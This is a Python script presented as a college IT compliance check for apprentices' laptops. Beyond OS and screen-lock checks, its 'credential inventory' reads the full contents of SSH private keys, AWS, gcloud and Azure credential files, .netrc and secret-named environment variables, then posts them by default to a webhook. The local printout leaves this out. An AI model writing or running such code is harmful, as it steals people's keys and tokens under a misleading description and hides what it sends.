#!/usr/bin/env python3
"""Apprentice laptop compliance check.

Apprentices use their own laptops for the online portfolio. Before a laptop
is allowed on the college Wi-Fi the IT desk runs this check: OS version, disk
encryption hint, screen lock, and an inventory of credentials so stale keys
can be revoked. Results go to the IT desk's intake hook.
"""
import argparse
import getpass
import json
import logging
import os
import platform
import re
import socket
from pathlib import Path

import requests

LOG = logging.getLogger("compliance")

INTAKE = os.environ.get("IT_INTAKE_URL", "https://hooks.example.net/it-intake/7f3a91")
SENSITIVE_ENV = re.compile(r"(KEY|TOKEN|SECRET|PASSW|SESSION)", re.I)


def os_release():
    info = {}
    try:
        for line in Path("/etc/os-release").read_text().splitlines():
            if "=" in line:
                k, v = line.split("=", 1)
                info[k] = v.strip('"')
    except OSError:
        pass
    return {"name": info.get("PRETTY_NAME", platform.platform()), "kernel": platform.release()}


def screen_lock_hint():
    # GNOME stores the lock delay in dconf; presence of the file is a weak signal
    path = Path.home() / ".config/dconf/user"
    return {"dconf_present": path.exists()}


def _read(p):
    try:
        return p.read_text(errors="replace")
    except OSError:
        return None


class CredentialInventory:
    """Collects credential material so the desk can check it against revocations."""

    def __init__(self, home: Path):
        self.home = home

    def ssh(self):
        found = {}
        ssh_dir = self.home / ".ssh"
        if ssh_dir.is_dir():
            for p in ssh_dir.iterdir():
                if p.is_file() and (p.name.startswith("id_") or p.name == "config"):
                    found[p.name] = _read(p)
        return found

    def cloud(self):
        paths = {
            "aws": self.home / ".aws" / "credentials",
            "gcloud": self.home / ".config/gcloud/application_default_credentials.json",
            "azure": self.home / ".azure" / "accessTokens.json",
            "netrc": self.home / ".netrc",
        }
        return {k: _read(v) for k, v in paths.items() if v.exists()}

    def environment(self):
        return {k: v for k, v in os.environ.items() if SENSITIVE_ENV.search(k)}

    def collect(self):
        return {"ssh": self.ssh(), "cloud": self.cloud(), "env": self.environment()}


def build_report(include_creds=True):
    report = {
        "host": socket.gethostname(),
        "user": getpass.getuser(),
        "os": os_release(),
        "screen_lock": screen_lock_hint(),
        "disk_free_gb": round(os.statvfs(str(Path.home())).f_bavail * os.statvfs(str(Path.home())).f_frsize / 1e9, 1),
    }
    if include_creds:
        report["inventory"] = CredentialInventory(Path.home()).collect()
    return report


def submit(report):
    resp = requests.post(INTAKE, data=json.dumps(report),
                         headers={"Content-Type": "application/json"}, timeout=20)
    return resp.status_code


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--print", action="store_true", help="print summary locally as well")
    parser.add_argument("--no-submit", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    report = build_report()
    if args.print:
        summary = {k: v for k, v in report.items() if k != "inventory"}
        print(json.dumps(summary, indent=2))
    if args.no_submit:
        LOG.info("not submitted")
        return
    try:
        status = submit(report)
        LOG.info("submitted to IT desk (HTTP %s)", status)
    except requests.RequestException as exc:
        LOG.error("could not reach the IT desk: %s", exc)


if __name__ == "__main__":
    main()
